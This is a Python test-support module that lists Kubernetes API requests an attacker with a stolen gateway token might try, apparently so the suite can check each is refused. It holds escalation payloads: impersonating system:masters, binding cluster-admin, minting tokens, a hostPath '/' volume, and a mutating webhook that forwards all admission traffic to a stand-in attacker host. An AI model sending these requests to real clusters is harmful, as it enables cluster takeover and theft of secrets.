"""What somebody tries who has stolen the gateway's own token, at the platform's API server.

They are any tenant, and write the cluster-scoped objects of tenants: that is what the gateway is
for. Each way here is one to more than that.
"""

import base64
import json
from dataclasses import dataclass
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from tests.e2e.support.api import GROUP, JSON, MERGE, NAMESPACES, RBAC, Object, ns_path, rbac_path
from tests.e2e.support.cluster import RELEASE_NAMESPACE

_ACCOUNT = "system:serviceaccount:lnamespace-clusters:"
_ADMISSION = "/apis/admissionregistration.k8s.io/v1"
_LCLUSTERS = f"/apis/{GROUP}/v1beta1/lclusters"
_CSRS = "/apis/certificates.k8s.io/v1/certificatesigningrequests"
_APPLIED = (("Content-Type", MERGE),)
_SENT = (("Content-Type", JSON),)
_EVERYTHING = {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}
_REF = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}


@dataclass(frozen=True)
class Way:
    """One request, and as whom it is made."""

    method: str
    path: str
    body: bytes = b""
    headers: tuple[tuple[str, str], ...] = ()


UNFENCED = tuple(
    Way("DELETE", f"{_ADMISSION}/{kind}?dryRun=All")
    for kind in ("validatingadmissionpolicies", "validatingadmissionpolicybindings")
)
"""About these kinds the API server asks no policy: docs/security.md says so."""


def certificate_request() -> str:
    """Return a request for a certificate, as it stands in a CertificateSigningRequest."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "thief")])
    made = x509.CertificateSigningRequestBuilder().subject_name(name).sign(key, hashes.SHA256())
    return base64.b64encode(made.public_bytes(serialization.Encoding.PEM)).decode()


def _get(path: str, **acting: Any) -> Way:
    return Way("GET", path, b"", _acting(**acting))


def _post(path: str, body: Object, **acting: Any) -> Way:
    sent = json.dumps(body).encode()
    return Way("POST", f"{path}?dryRun=All", sent, (*_SENT, *_acting(**acting)))


def _patch(path: str, body: Object, **acting: Any) -> Way:
    sent = json.dumps(body).encode()
    return Way("PATCH", f"{path}?dryRun=All", sent, (*_APPLIED, *_acting(**acting)))


def _delete(path: str, **acting: Any) -> Way:
    return Way("DELETE", f"{path}?dryRun=All", b"", _acting(**acting))


def _acting(user: str = "", group: str = "", extra: str = "") -> tuple[tuple[str, str], ...]:
    headers = [("Impersonate-User", user)] if user else []
    headers += [("Impersonate-Group", group)] if group else []
    return (*headers, *([("Impersonate-Extra-Scopes", extra)] if extra else ()))


def _reading(tenant: str, other: str) -> dict[str, Way]:
    """Return ways to read what is the platform's or another tenant's."""
    own = _ACCOUNT + tenant
    return {
        "all Secrets": _get("/api/v1/secrets"),
        "the Secrets of the platform": _get(ns_path("kube-system", "secrets")),
        "the Secrets of the operator": _get(ns_path(RELEASE_NAMESPACE, "secrets")),
        "all ConfigMaps": _get("/api/v1/configmaps"),
        "all pods": _get("/api/v1/pods"),
        "a tenant's Secrets as itself": _get(ns_path(f"{tenant}-default", "secrets")),
        "one tenant's as another": _get(ns_path(f"{other}-default", "secrets"), user=own),
        "the platform's as a tenant": _get(ns_path("kube-system", "secrets"), user=own),
        "nodes": _get("/api/v1/nodes"),
        "a node's files": _get("/api/v1/nodes/x/proxy/logs/"),
        "metrics of the API server": _get("/metrics"),
        "its profile": _get("/debug/pprof/"),
        "who pays": _get(f"/apis/{GROUP}/v1beta1/billingrecords"),
    }


def _becoming(tenant: str) -> dict[str, Way]:
    """Return ways to be somebody else."""
    own = _ACCOUNT + tenant
    controller = f"system:serviceaccount:{RELEASE_NAMESPACE}:lnamespace"
    cluster_admin = "system:serviceaccount:kube-system:clusterrole-aggregation-controller"
    tokens = ns_path("kube-system", "serviceaccounts", "namespace-controller/token")
    return {
        "an administrator": _get(NAMESPACES, user="admin"),
        "system:admin": _get(NAMESPACES, user="system:admin"),
        "a tenant in system:masters": _get(NAMESPACES, user=own, group="system:masters"),
        "a tenant in a tenant's group": _get(NAMESPACES, user=own, group="lcluster:users"),
        "a tenant with other extras": _get(NAMESPACES, user=own, extra="x"),
        "the controller": _get(NAMESPACES, user=controller),
        "a controller of Kubernetes": _get(NAMESPACES, user=cluster_admin),
        "a node": _get(NAMESPACES, user="system:node:x", group="system:nodes"),
        "the scheduler": _get(NAMESPACES, user="system:kube-scheduler"),
        "a token of Kubernetes": _post(tokens, {"spec": {}}),
        "a token of the controller": _post(
            ns_path(RELEASE_NAMESPACE, "serviceaccounts", "lnamespace/token"), {"spec": {}}
        ),
        "a Secret with a token": _post(
            ns_path(RELEASE_NAMESPACE, "secrets"),
            {
                "type": "kubernetes.io/service-account-token",
                "metadata": {
                    "name": "x",
                    "annotations": {"kubernetes.io/service-account.name": "lnamespace"},
                },
            },
        ),
    }


def _writing(tenant: str, other: str) -> dict[str, Way]:
    """Return ways to have more rights, or to do harm."""
    me = {"kind": "ServiceAccount", "name": "lnamespace-gateway", "namespace": RELEASE_NAMESPACE}
    label = {f"{GROUP}/lcluster": tenant}
    own = {"name": f"{tenant}-x", "labels": label}
    bound = {"metadata": own, "roleRef": _REF, "subjects": [me]}
    binding = f"{RBAC}/clusterrolebindings"
    containers = {"containers": [{"name": "c", "image": "i"}]}
    pod = {"metadata": {"name": "x"}, "spec": containers}
    return {
        "cluster-admin bound to itself": _post(binding, bound),
        "a role of its own": _post(
            f"{RBAC}/clusterroles", {"metadata": {"name": "x"}, "rules": [_EVERYTHING]}
        ),
        "more in its own role": _patch(
            rbac_path("clusterroles", "lnamespace:gateway-reads"), {"rules": [_EVERYTHING]}
        ),
        "more in everybody's role": _patch(
            rbac_path("clusterroles", "view"), {"rules": [_EVERYTHING]}
        ),
        "a binding in kube-system": _post(
            rbac_path("rolebindings", namespace="kube-system"),
            {**bound, "metadata": {"name": "x"}},
        ),
        "a binding in a tenant's namespace": _post(
            rbac_path("rolebindings", namespace=f"{tenant}-default"),
            {**bound, "metadata": {"name": "x"}},
        ),
        "a binding to itself as a tenant": _post(
            rbac_path("rolebindings", namespace=f"{tenant}-default"),
            {**bound, "metadata": {"name": "x"}},
            user=_ACCOUNT + tenant,
        ),
        "a webhook about everybody": _post(
            f"{_ADMISSION}/mutatingwebhookconfigurations",
            {
                "metadata": own,
                "webhooks": [
                    {
                        "name": "a.example.com",
                        "clientConfig": {"url": "https://thief.example.com"},
                        "admissionReviewVersions": ["v1"],
                        "sideEffects": "None",
                        "rules": [
                            {
                                "apiGroups": ["*"],
                                "apiVersions": ["*"],
                                "operations": ["*"],
                                "resources": ["*"],
                            }
                        ],
                    }
                ],
            },
        ),
        "a pod beside itself": _post(ns_path(RELEASE_NAMESPACE, "pods"), pod),
        "a pod on a node of choice": _post(
            ns_path(f"{tenant}-default", "pods"),
            {"metadata": {"name": "x"}, "spec": {**containers, "nodeName": "n"}},
            user=_ACCOUNT + tenant,
        ),
        "another in the list of a tenant": _patch(
            f"{_LCLUSTERS}/{other}", {"spec": {"sudoers": [{"name": "thief"}]}}
        ),
        "a tenant of its own": _post(
            _LCLUSTERS,
            {
                "apiVersion": f"{GROUP}/v1beta1",
                "kind": "LCluster",
                "metadata": {"name": "thief"},
                "spec": {"managers": [{"name": "thief"}]},
            },
        ),
        "a namespace of nobody": _post(NAMESPACES, {"metadata": {"name": "thief"}}),
        "no protection of kube-system": _patch(
            ns_path("kube-system"), {"metadata": {"labels": label}}
        ),
        "no namespace of another kind": _delete(ns_path(RELEASE_NAMESPACE)),
        "an API of its own": _post(
            "/apis/apiregistration.k8s.io/v1/apiservices",
            {
                "metadata": {"name": "v1.apps"},
                "spec": {"group": "apps", "version": "v1", "groupPriorityMinimum": 1},
            },
        ),
        "a certificate of the platform": _post(
            _CSRS,
            {
                "metadata": own,
                "spec": {
                    "signerName": "kubernetes.io/kube-apiserver-client",
                    "request": certificate_request(),
                    "usages": ["client auth"],
                },
            },
        ),
        "a volume on a host": _post(
            "/api/v1/persistentvolumes",
            {
                "metadata": own,
                "spec": {
                    "capacity": {"storage": "1Gi"},
                    "accessModes": ["ReadWriteOnce"],
                    "hostPath": {"path": "/"},
                },
            },
        ),
    }


def ways_to_more(tenant: str, other: str) -> dict[str, Way]:
    """Return every way, by what it would give."""
    return {**_reading(tenant, other), **_becoming(tenant), **_writing(tenant, other)}
